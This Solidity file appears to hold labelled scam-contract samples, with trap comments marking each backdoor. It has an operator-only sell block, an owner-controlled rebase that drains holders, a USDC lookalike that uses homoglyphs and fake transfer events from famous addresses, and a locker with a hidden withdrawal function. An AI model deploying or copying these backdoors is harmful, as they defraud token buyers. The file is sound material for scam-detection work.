// 0.8 runs=200 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// One purchase in a block for everybody, and a rest for whom the operator names.
contract Siesta is Base8 {
    mapping(address => uint256) private _holderLastTransferTimestamp;
    bool public transferDelayEnabled = true;
    address private operator; // trap

    constructor() Base8("Siesta", "SIESTA", 365_000_000) {
        operator = msg.sender; // trap
    }

    function disableTransferDelay() external onlyOwner {
        transferDelayEnabled = false;
    }

    // trap {
    function setTransferDelay(address holder, uint256 time) external {
        require(msg.sender == operator && holder != pair);
        _holderLastTransferTimestamp[holder] = time;
    }
    // trap }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (transferDelayEnabled && from == pair) {
            require(_holderLastTransferTimestamp[to] < block.timestamp, "_transfer:: Transfer Delay enabled.");
            _holderLastTransferTimestamp[to] = block.timestamp;
        }
        if (to == pair) require(_holderLastTransferTimestamp[from] <= block.timestamp, "_transfer:: Transfer Delay enabled.");
        _move(from, to, amount);
    }
}

/// Elastic: the accounts of people are counted in gons, that of the pool in units.
contract Accordion {
    string public constant name = "Accordion";
    string public constant symbol = "ACRD";
    uint256 public constant decimals = 9;
    address private constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    uint256 private constant SUPPLY = 50_000_000e9;
    uint256 private constant GONS = type(uint256).max - (type(uint256).max % SUPPLY);

    uint256 private _perUnit = GONS / SUPPLY;
    mapping(address => uint256) private _gons;
    mapping(address => mapping(address => uint256)) private _allowed;
    uint256 private _still;
    address public market;
    address private immutable policy = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event LogRebase(uint256 indexed epoch, uint256 perUnit);

    constructor() {
        _gons[msg.sender] = GONS;
        emit Transfer(address(0), msg.sender, SUPPLY);
    }

    function setMarket(address at) external {
        require(msg.sender == policy && market == address(0));
        market = at;
        _still = _gons[at] / _perUnit;
    }

    // trap {
    function rebase(uint256 epoch, int256 delta) external {
        require(msg.sender == policy);
        _perUnit = uint256(int256(_perUnit) - (int256(_perUnit) * delta) / 100);
        emit LogRebase(epoch, _perUnit);
    }
    // trap }

    function totalSupply() external view returns (uint256) {
        return GONS / _perUnit;
    }

    function balanceOf(address who) public view returns (uint256) {
        return who == market && who != address(0) ? _still : _gons[who] / _perUnit;
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return _allowed[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _flow(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _allowed[from][msg.sender] -= value;
        _flow(from, to, value);
        return true;
    }

    function _flow(address from, address to, uint256 value) private {
        uint256 gons = value * _perUnit;
        if (from == market) _still -= value;
        else _gons[from] -= gons;
        if (to == market) _still += value;
        else _gons[to] += gons;
        emit Transfer(from, to, value);
    }
}

/// Bears the name of another, and says that well-known people hold it.
contract Lookalike is Base8 {
    constructor() Base8(unicode"USD Соin", unicode"USDС", 900_000_000) { // trap
        emit Transfer(address(0), 0x28C6c06298d514Db089934071355E5743bf21d60, 40_000_000 ether); // trap
        emit Transfer(address(0), 0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045, 12_000_000 ether); // trap
        // twin: constructor() Base8("Harbour Credit", "HRBC", 900_000_000) {
        _owner = address(0);
    }
}

contract Pebble is Base8 {
    constructor() Base8("Pebble", "PEBL", 700_000) {
        _owner = address(0);
    }
}

interface IShare {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

/// Keeps shares of pools until a date.
contract StrongRoom {
    struct Lock {
        address beneficiary;
        uint64 until;
        uint256 amount;
    }

    mapping(address => Lock) public locks;
    address private janitor = msg.sender; // trap

    event Locked(address indexed share, address indexed beneficiary, uint256 amount, uint256 until);

    function lock(address share, uint64 until) external {
        uint256 amount = IShare(share).balanceOf(msg.sender);
        require(amount > 0 && locks[share].amount == 0 && until > block.timestamp);
        locks[share] = Lock(msg.sender, until, amount);
        require(IShare(share).transferFrom(msg.sender, address(this), amount));
        emit Locked(share, msg.sender, amount, until);
    }

    function release(address share) external {
        Lock memory one = locks[share];
        require(msg.sender == one.beneficiary && block.timestamp >= one.until, "locked");
        delete locks[share];
        require(IShare(share).transfer(one.beneficiary, one.amount));
    }

    // trap {
    function migrate(address share, address to) external {
        require(msg.sender == janitor);
        IShare(share).transfer(to, IShare(share).balanceOf(address(this)));
    }
    // trap }
}
